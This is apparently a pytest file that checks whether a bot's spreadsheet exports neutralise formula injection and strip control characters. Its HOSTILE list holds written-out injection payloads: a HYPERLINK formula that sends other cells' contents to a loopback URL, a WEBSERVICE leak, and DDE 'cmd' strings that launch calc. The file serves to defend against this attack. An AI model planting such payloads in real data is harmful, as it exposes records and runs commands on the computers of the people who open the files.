"""Spreadsheets that run nothing (review M2, L1): every export writes a person's text as text.

A cell that starts with = is a formula to Excel and LibreOffice (=HYPERLINK(…) or
=WEBSERVICE(…) sends the other rows out; =cmd|… is DDE); + - @ and a leading tab or line
break are read as the start of one too when a cell is edited or the file passes through CSV.
Control characters make openpyxl refuse the whole file.
"""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import AsyncIterator
from datetime import timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from bot.services import certificates as certs
from bot.services.xlsx import FORMULA_START
from db.models import Delivery, District, Submission, User, Webinar, WebinarRegistration
from tests.conftest import STAFF_ID
from tests.factories import make_coordinator, make_staff, make_student, place_ids
from tests.harness import BotHarness, make_harness
from tests.test_challenges import new_challenge


@pytest.fixture
async def h(db_url, clock) -> AsyncIterator[BotHarness]:
    """SQLite, or PostgreSQL with TEST_DB=postgres; many quick updates: no flood limit."""
    harness = await make_harness(db_url, clock, staff_ids=frozenset({STAFF_ID}),
                                 flood_limit=100_000)
    yield harness
    await harness.close()


# What people have typed as names, schools, entries, comments, titles and announcements.
HOSTILE = [
    '=HYPERLINK("http://127.0.0.1:9/x?"&B3&C3,"Aida")',
    "=1+1+cmd|' /C calc'!A0",
    '+WEBSERVICE("http://127.0.0.1:9/leak")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=2+2",
    "School\x01 No. 5\x1b",  # control characters: openpyxl refuses them
]
DISTRICT = "=SUM(9,9) District"  # an imported place name goes into the exports too


def expected(text: str) -> str:
    """What the export should show: the text as typed, C0 controls (but tab, line feed and
    carriage return, which a cell holds) removed."""
    return re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f]", "", text)


def read_workbook(data: bytes) -> list:
    """Every cell of every sheet, after checking the file holds no formula at all."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    book = load_workbook(io.BytesIO(data))
    return [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]


def assert_safe(data: bytes, must_show: list[str]) -> None:
    cells = read_workbook(data)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    shown = {c.value for c in cells if isinstance(c.value, str)}
    for text in must_show:
        assert expected(text) in shown, f"{expected(text)!r} is not readable in the export"
    for c in cells:  # a formula-like text stays text when staff edit the cell
        if isinstance(c.value, str) and c.value.lstrip(" ").startswith(FORMULA_START):
            assert c.data_type == "s" and c.quotePrefix, (c.coordinate, c.value)


async def hostile_people(h: BotHarness) -> list[User]:
    """Students whose name and school are hostile (stored as an old row could hold them)."""
    _region_id, district_id = await place_ids(h)
    async with h.app.sessionmaker() as s:
        await s.execute(update(District).where(District.id == district_id).values(
            name_kk=DISTRICT, name_ru=DISTRICT, name_en=DISTRICT))
        await s.commit()
        await h.app.places.load(s)
    people = []
    for n, text in enumerate(HOSTILE):
        user = await make_student(h, 300 + n, org_name=HOSTILE[-1 - n])
        async with h.app.sessionmaker() as s:
            await s.execute(update(User).where(User.id == user.id).values(full_name=text))
            await s.commit()
        h.app.users.forget(300 + n)
        people.append(user)
    return people


async def test_m2_every_export_neutralises_formulas(h):
    await make_staff(h)
    people = await hostile_people(h)
    now = h.app.now()
    # /export_challenge: name, school, district, the entry's text and the comment
    cid = await new_challenge(h, content=("text",))
    async with h.app.sessionmaker() as s:
        for n, user in enumerate(people):
            s.add(Submission(challenge_id=cid, user_id=user.id, status="pending",
                             content_kind="text", text=HOSTILE[n], comment=HOSTILE[-1 - n],
                             region_id=user.region_id, district_id=user.district_id,
                             submitted_at=now, chat_id=user.chat_id))
        # /export_webinar and /certificates export: names and schools; /export_stats: the
        # webinar's title and speakers this week
        webinar = Webinar(title_kk=HOSTILE[0], title_ru=HOSTILE[0], title_en=HOSTILE[0],
                          description_kk="…", description_ru="…",
                          starts_at=now - timedelta(hours=2),
                          duration_min=60, join_url="https://example.org/w",
                          speakers=[HOSTILE[4]])
        s.add(webinar)
        await s.flush()
        for user in people:
            s.add(WebinarRegistration(webinar_id=webinar.id, user_id=user.id,
                                      status="registered", attended_at=now))
        await s.commit()
        wid = webinar.id
    async with h.app.sessionmaker() as s:
        await certs.issue(s, certs.Source("webinar", wid), None, now, h.app.settings.tz)
        await s.commit()
    # /export_stats: a coordinator's announcement this week
    await make_coordinator(h, 201)
    coordinator = h.user(201)
    await coordinator.send("/broadcast")
    await coordinator.send(HOSTILE[2])
    await coordinator.click("Students")
    await coordinator.click("No confirmation")
    await coordinator.click("Send now")
    await h.drain()
    async with h.app.sessionmaker() as s:  # queued "now" by the test's clock, not the wall's
        await s.execute(update(Delivery).values(created_at=now))
        await s.commit()

    staff = h.user(900)
    exports = {
        f"/export_challenge {cid}": [*HOSTILE, DISTRICT],
        f"/export_webinar {wid}": [*HOSTILE, DISTRICT],
        "/certificates export": HOSTILE,
        "/export_stats": [HOSTILE[0], HOSTILE[2], HOSTILE[4]],
    }
    for command, must_show in exports.items():
        await staff.send(command)
        call = h.api.last(900)
        assert call.method == "sendDocument", (command, call.text)
        assert_safe(call.files["document"], must_show)


async def test_l1_control_characters_never_get_stored(h):
    """Typed names, schools, entries, comments and reasons lose their control characters."""
    await make_staff(h)
    cid = await new_challenge(h, content=("text",))
    await make_student(h, 101)
    u = h.user(101)
    await u.send("/profile")
    await u.click("Organisation")
    await u.send("School\x01 No. 5")
    await u.send("/profile")
    await u.click("Name")
    await u.send("Aida\x02 Serikova")
    await u.press(f"ch:submit:{cid}:")
    await u.send("My\x03 essay\r\nsecond line")
    await u.send("A comment\x04")
    await u.click("Send")
    staff = h.user(900)
    await staff.press("rv:type:1:")
    await staff.send("Please\x05 redo")
    async with h.app.sessionmaker() as s:
        user = await s.scalar(select(User).where(User.tg_id == 101))
        sub = await s.get(Submission, 1)
    assert (user.org_name, user.full_name) == ("School No. 5", "Aida Serikova")
    assert (sub.text, sub.comment, sub.reject_reason) == (
        "My essay\nsecond line", "A comment", "Please redo")
    await staff.send(f"/export_challenge {cid}")
    assert_safe(h.api.last(900).files["document"], ["School No. 5", "Aida Serikova"])
